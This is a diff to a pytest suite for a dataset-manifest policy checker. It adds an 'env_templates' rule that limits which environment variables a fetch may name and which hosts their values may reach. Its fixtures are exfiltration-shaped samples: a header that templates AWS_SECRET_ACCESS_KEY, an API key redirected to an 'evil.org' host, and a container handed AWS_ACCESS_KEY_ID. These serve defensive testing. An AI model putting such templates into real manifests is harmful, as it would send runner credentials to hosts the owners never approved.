@@ -179,6 +179,7 @@ def test_the_shipped_policies_load_in_file_name_order() -> None:
         ("info-recommended", WARNING),
         ("reverse-domain-name", ERROR),  # naming.yaml
         ("no-program-steps", ERROR),  # security.yaml
+        ("env-templates", ERROR),
     ]
 
 
@@ -601,6 +602,121 @@ def test_a_comment_after_a_block_scalar_is_still_an_override() -> None:
     assert read_override(text) == "reviewed"
 
 
+# --- Environment variables in fetch templates ----------------------------------------------
+
+
+def _env_rule(allowed: str) -> str:
+    """A rule file with one ``env_templates`` rule; ``allowed`` its entries, each line
+    written at the rule's own indent."""
+    entries = "".join(f"  {line}\n" for line in allowed.splitlines())
+    return (
+        f"rules:\n  - id: env\n    severity: error\n    message: m\n    env_templates:\n{entries}"
+    )
+
+
+TEMPLATED = """\
+kind: DatasetSnapshot
+version: 1
+content:
+  name: org.example.templated
+  kind: Root
+  metadata:
+    - kind: SetPollingSource
+      fetch:
+        kind: Url
+        url: "https://api.weather.example/v1/obs?key=${{ env.WEATHER_KEY }}&n=${{ env.N || 10 }}"
+        headers:
+          - name: Authorization
+            value: "Bearer ${{ env.UNSET || env.AWS_SECRET_ACCESS_KEY }}"
+      read: {kind: Csv, header: true}
+      merge: {kind: Append}
+"""
+
+
+def test_a_template_names_only_variables_the_policies_allow_and_sends_them_only_there(
+    tmp_path: Path,
+) -> None:
+    """A merged manifest's fetch resolved any variable of the runner's environment, the
+    data store's credentials included, into a URL or header of its choosing."""
+    manifest = _facts(_write(tmp_path, TEMPLATED))
+    policies = _policies(
+        tmp_path,
+        {
+            "env.yaml": _env_rule(
+                "    WEATHER_KEY: ['https://api.weather.example/']\n    N: ['*']\n"
+                "    UNSET: ['https://other.example/']\n"
+            )
+        },
+    )
+    path = str(tmp_path / "ds.yaml")
+    assert [(v.message, v.location) for v in evaluate(policies, manifest, None)] == [
+        (
+            "env.UNSET at content.metadata[0].fetch.headers[0].value is sent to"
+            " 'https://api.weather.example/v1/obs?key=${{ env.WEATHER_KEY }}&n=${{ env.N || 10 }}',"
+            " and UNSET may go only to addresses starting with 'https://other.example/': m",
+            Location(path, 13, 20),
+        ),
+        (
+            "env.AWS_SECRET_ACCESS_KEY at content.metadata[0].fetch.headers[0].value: no"
+            " env_templates rule allows AWS_SECRET_ACCESS_KEY: m",
+            Location(path, 13, 20),
+        ),
+    ]
+    # The same URL moved to another host: the key may not follow it.
+    moved = _facts(
+        _write(
+            tmp_path,
+            TEMPLATED.replace("api.weather.example", "api.weather.example.evil.org"),
+            "m.yaml",
+        )
+    )
+    assert [v.message.split(" is sent to ")[0] for v in evaluate(policies, moved, None)][:1] == [
+        "env.WEATHER_KEY at content.metadata[0].fetch.url"
+    ]
+
+
+def test_without_an_env_templates_rule_no_variable_may_be_named(tmp_path: Path) -> None:
+    verdicts = evaluate(PolicySet(), _facts(_write(tmp_path, TEMPLATED)), None)
+    assert [(v.policy, v.severity, v.message.split(": ")[0]) for v in verdicts] == [
+        ("env-templates", ERROR, f"env.{name} at content.metadata[0].fetch.{where}")
+        for name, where in (
+            ("WEATHER_KEY", "url"),
+            ("N", "url"),
+            ("UNSET", "headers[0].value"),
+            ("AWS_SECRET_ACCESS_KEY", "headers[0].value"),
+        )
+    ]
+    assert verdicts[0].message.endswith(
+        "no env_templates rule allows WEATHER_KEY: a fetch's ${{ env.NAME }} sends the"
+        " runner's variable where the manifest says; name the variable, with the addresses"
+        " its value may go to, in an env_templates rule under policies/ (a change its owners"
+        " review)"
+    )
+    # The shipped rule allows none either, and lets a manifest without templates be.
+    shipped = _shipped_verdicts(_write(tmp_path, TEMPLATED))
+    assert [v.policy for v in shipped if v.policy == "env-templates"] == ["env-templates"] * 4
+    assert [
+        v for v in _shipped_verdicts(_write(tmp_path, COMPLIANT)) if v.policy == "env-templates"
+    ] == []
+
+
+def test_a_container_s_variables_go_to_its_image(tmp_path: Path) -> None:
+    """Its command, arguments and environment reach the image's program; a variable
+    listed without a value passes the runner's own value of that name."""
+    text = COMPLIANT.replace(
+        "        kind: Url\n        url: https://example.org/weather.csv\n",
+        "        kind: Container\n"
+        '        image: "ghcr.io/acme/fetch:1"\n'
+        '        args: ["${{ env.TOKEN }}"]\n'
+        '        env: [{name: AWS_ACCESS_KEY_ID}, {name: X, value: "${{ env.TOKEN }}"}]\n',
+    )
+    manifest = _facts(_write(tmp_path, text))
+    policies = _policies(tmp_path, {"env.yaml": _env_rule("    TOKEN: [ghcr.io/acme/]\n")})
+    assert [v.message.split(": ")[0] for v in evaluate(policies, manifest, None)] == [
+        "env.AWS_ACCESS_KEY_ID at content.metadata[0].fetch.env[0]"
+    ]
+
+
 # --- Mistakes in policy files -------------------------------------------------------------
 
 GOOD_RULE = """\
@@ -624,7 +740,7 @@ rules:
             "names",
             "unknown key 'name_regex'; a rule has id, severity, message, applies_to and one "
             "check of: name_pattern, require_events, forbid_steps, allowed_engines, breaking_changes,"
-            " deterministic_queries, chain_changes",
+            " deterministic_queries, chain_changes, env_templates",
             id="unknown-check",
         ),
         pytest.param(
@@ -679,8 +795,45 @@ rules:
             6,
             "two",
             "a rule needs exactly one check of: name_pattern, require_events, forbid_steps, "
-            "allowed_engines, breaking_changes, deterministic_queries, chain_changes",
+            "allowed_engines, breaking_changes, deterministic_queries, chain_changes,"
+            " env_templates",
             id="two-checks",
+        ),
+        pytest.param(
+            {"a.yaml": _env_rule("    A.B: ['*']\n")},
+            "a.yaml",
+            6,
+            "env",
+            "'A.B' is no environment variable's name",
+            id="env-bad-name",
+        ),
+        pytest.param(
+            {"a.yaml": _env_rule("    A: [https://api.example.org]\n")},
+            "a.yaml",
+            6,
+            "env",
+            "'https://api.example.org' does not fix a host: write a URL up to the / after its"
+            " host (https://api.example.org/), an image's registry or owner up to its /"
+            " (ghcr.io/acme/), or * for a value that is no secret",
+            id="env-prefix-without-host-end",
+        ),
+        pytest.param(
+            {"a.yaml": _env_rule("    A: ['*']\n    B: ['https://', ghcr.io/acme/]\n")},
+            "a.yaml",
+            7,
+            "env",
+            "'https://' does not fix a host: write a URL up to the / after its"
+            " host (https://api.example.org/), an image's registry or owner up to its /"
+            " (ghcr.io/acme/), or * for a value that is no secret",
+            id="env-prefix-without-host",
+        ),
+        pytest.param(
+            {"a.yaml": _env_rule("    A: []\n")},
+            "a.yaml",
+            6,
+            "env",
+            "the addresses of A must be a non-empty list of strings",
+            id="env-no-address",
         ),
         pytest.param(
             {
